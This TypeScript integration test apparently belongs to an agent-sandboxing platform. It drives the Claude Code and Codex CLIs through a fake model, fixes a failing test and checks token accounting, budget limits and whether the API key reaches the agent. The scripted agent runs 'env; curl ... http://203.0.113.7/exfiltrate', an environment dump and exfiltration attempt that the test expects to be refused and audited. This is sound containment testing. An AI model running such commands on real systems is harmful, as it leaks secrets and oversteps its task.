/**
 * Claude Code and Codex CLI, the real binaries registered by their presets, through Arbiter's
 * whole lifecycle on the real stack: the policy's setup installs an npm dependency the gate
 * needs, the agent reaches a fake model (speaking its CLI's protocol) only through the worker's
 * gateway, fixes a failing test and tries to reach another host. Asserted: PASS and the
 * delivered content, the gateway's records and token counts against what the model reported,
 * the real key never inside (the agent's own environment, sent back to the model, the delivered
 * branch and the workflow history), the other host refused and audited, and a token budget
 * overrun stopping the agent with the reason.
 */
import assert from 'node:assert/strict';
import { and, eq } from 'drizzle-orm';
import { upsertAgent } from '../../db/agents';
import { modelCallsOf } from '../../db/model-calls';
import { sandboxEvents, verdicts } from '../../db/schema';
import { buildPresetConfig, presetDefinition } from '../../domain/agent-presets';
import type { VerdictPayload } from '../../domain/verdict';
import { findPresetBinary } from '../../client/agent-binaries';
import { projectRoot } from '../../client/paths';
import { gitIn, makeRepo, registerRepo, repoDir, specYaml, uniqueId } from '../helpers/fixtures';
import { startFakeModels, type FakeModels } from '../helpers/fake-models/server';
import type { ConversationScript, TurnContext } from '../helpers/fake-models/script';
import { npmProjectFiles, startFakeRegistry, type FakeRegistry } from '../helpers/fake-registry';
import { testStack } from '../helpers/stack';
import { runToEnd } from '../helpers/tasks';

const KEY_ENV = 'TEST_REAL_MODEL_KEY';
const REAL_KEY = `sk-real-${uniqueId('key')}`;
const DEP = 'arbiter-answer';
/** TEST-NET-3: no such host is reachable, through the proxy or otherwise. */
const ELSEWHERE = 'http://203.0.113.7/exfiltrate';
const PROBE = `env; curl -sS -m 5 ${ELSEWHERE}; echo CURL_EXIT=$?`;

/** Turns as [tool, input] (the last one text), refused in the reply if the CLI offered no such tool. */
function script(turns: Array<[string, unknown] | string>): ConversationScript {
  return (ctx: TurnContext) => {
    const step = turns[ctx.turn - 1];
    if (step === undefined) return { text: `unexpected turn ${ctx.turn}` };
    if (typeof step === 'string') return { text: step };
    const [name, input] = step;
    if (!ctx.tools.some((t) => t.name === name)) return { text: `the client offered no tool '${name}'` };
    return { toolCalls: [{ name, input }] };
  };
}

const DONE = 'Fixed: answer.js now exports what the dependency says, and node test.js passes.';
const CLAUDE = script([
  ['Bash', { command: 'node test.js', description: 'run the failing test' }],
  ['Read', { file_path: '/workspace/answer.js' }],
  ['Edit', { file_path: '/workspace/answer.js', old_string: '41', new_string: '42' }],
  ['Bash', { command: PROBE, description: 'look around' }],
  ['Bash', { command: 'node test.js', description: 'run the test again' }],
  DONE,
]);
const CODEX = script([
  ['exec_command', { cmd: 'node test.js' }],
  ['exec_command', { cmd: "sed -i 's/41/42/' answer.js" }],
  ['exec_command', { cmd: PROBE }],
  ['exec_command', { cmd: 'node test.js' }],
  DONE,
]);

interface Case {
  preset: 'claude-code' | 'codex';
  script: ConversationScript;
  model: string;
  /** The upstream base URL for the fake (Codex's keeps the `/v1` its vendor's has). */
  upstream: (fake: FakeModels) => string;
  /** The header the gateway puts the real key in. */
  keyHeader: (headers: Record<string, unknown>) => unknown;
}

const CASES: Case[] = [
  {
    preset: 'claude-code',
    script: CLAUDE,
    model: 'claude-sonnet-4-6',
    upstream: (f) => f.origin,
    keyHeader: (h) => h['x-api-key'],
  },
  {
    preset: 'codex',
    script: CODEX,
    model: 'gpt-5.5',
    upstream: (f) => `${f.origin}/v1`,
    keyHeader: (h) => h.authorization,
  },
];

describe('real coding-agent CLIs through the whole lifecycle, behind the gateway', function () {
  this.timeout(300_000);
  let registry: FakeRegistry;

  before(async () => {
    process.env[KEY_ENV] = REAL_KEY;
    registry = await startFakeRegistry(DEP, '1.0.0', { 'index.js': 'module.exports = { answer: 42 };\n' });
  });
  after(async () => {
    delete process.env[KEY_ENV];
    await registry.close();
  });

  async function task(c: Case, fake: FakeModels, budgets: { maxTokens?: number } = {}) {
    const found = findPresetBinary(presetDefinition(c.preset), { root: projectRoot() });
    assert.ok(found, `${c.preset} is installed (a pinned devDependency)`);
    const tenantId = uniqueId('tenant');
    const config = buildPresetConfig(c.preset, {
      binary: found.path,
      model: c.model,
      upstreamUrl: c.upstream(fake),
      keyEnv: KEY_ENV,
      ...budgets,
    });
    await upsertAgent(testStack().database.db, {
      id: uniqueId(c.preset),
      tenantId,
      kind: 'command',
      config,
      capabilities: { taskTypes: ['feature'] },
      maxConcurrency: 2,
    });
    const files = npmProjectFiles(registry, registry, {
      'answer.js': 'module.exports = 41;\n',
      'test.js': `const want = require('${DEP}').answer;\nconst got = require('./answer.js');\nif (got !== want) { console.error('expected ' + want + ', got ' + got); process.exit(1); }\nconsole.log('ok');\n`,
    });
    const repo = await registerRepo(tenantId, makeRepo(files));
    const spec = specYaml({
      scope: { in: ['answer.js'], out: [] },
      blast_radius: { modules: ['.'], data_migration: false },
    });
    return { tenantId, taskId: uniqueId('task'), specYaml: spec, repo };
  }

  for (const c of CASES) {
    it(`${c.preset}: PASS under contract, every call through the gateway, the key never inside`, async () => {
      const fake = await startFakeModels({ script: c.script, apiKey: REAL_KEY });
      try {
        const input = await task(c, fake);
        const snap = await runToEnd(input);
        assert.equal(
          snap.verdict?.outcome,
          'PASS',
          `${JSON.stringify(snap.error ?? snap.gates)}\n${fake.summary().join('\n')}`,
        );
        assert.equal(snap.gates.find((g) => g.name === 'tests')?.status, 'pass');
        const dir = repoDir(input.repo);
        assert.equal(gitIn(dir, 'show', `${snap.delivery?.branch}:answer.js`), 'module.exports = 42;');

        const db = testStack().database.db;
        const runId = (await db.select().from(verdicts).where(eq(verdicts.taskId, input.taskId)))[0];
        const calls = await modelCallsOf(db, input.tenantId, input.taskId, runId.runId);
        assert.equal(calls.length, fake.requests.length, 'every request the model saw came through the gateway');
        assert.ok(calls.length >= 6 - (c.preset === 'codex' ? 1 : 0), fake.summary().join('\n'));
        const used = fake.usage();
        assert.equal(
          calls.reduce((n, x) => n + x.inputTokens, 0),
          used.input,
          'input tokens as the model reported',
        );
        assert.equal(
          calls.reduce((n, x) => n + x.outputTokens, 0),
          used.output,
          'output tokens as the model reported',
        );
        const summary = (runId.payload as VerdictPayload).gateway;
        assert.equal(summary?.calls, calls.length);
        assert.equal(summary?.inputTokens, used.input);

        for (const r of fake.requests) assert.match(String(c.keyHeader(r.headers)), new RegExp(REAL_KEY));
        const seenByModel = JSON.stringify(fake.requests.map((r) => r.body));
        assert.match(seenByModel, /CURL_EXIT=/, 'the probe ran and its output went back to the model');
        assert.match(seenByModel, /PI_KEY=arbiter-/, 'the agent holds only its gateway token');
        assert.doesNotMatch(seenByModel, new RegExp(REAL_KEY), 'the key is in no environment the agent can see');
        assert.doesNotMatch(gitIn(dir, 'log', '-p', '--all'), new RegExp(REAL_KEY));
        const history = await testStack().client.temporal.workflow.getHandle(snap.workflowId).fetchHistory();
        assert.doesNotMatch(JSON.stringify(history), new RegExp(REAL_KEY), 'the key is not in the workflow history');

        const refused = await db
          .select()
          .from(sandboxEvents)
          .where(
            and(
              eq(sandboxEvents.taskId, input.taskId),
              eq(sandboxEvents.kind, 'gateway'),
              eq(sandboxEvents.allowed, false),
            ),
          );
        assert.ok(
          refused.some((e) => (e.path ?? '').includes('203.0.113.7')),
          `the other host is refused and audited: ${refused.map((e) => `${e.op} ${e.path}`).join('; ')}`,
        );
      } finally {
        await fake.close();
      }
    });
  }

  it('codex: a token budget overrun stops the agent, and the task fails naming it', async () => {
    const fake = await startFakeModels({ script: CODEX, apiKey: REAL_KEY });
    try {
      const snap = await runToEnd(await task(CASES[1], fake, { maxTokens: 150 }));
      assert.equal(snap.state, 'FAILED');
      assert.match(snap.error?.message ?? '', /token budget exceeded: \d+ of 150 tokens/);
      assert.ok(fake.requests.length <= 3, `the agent was stopped early: ${fake.summary().join(', ')}`);
    } finally {
      await fake.close();
    }
  });
});
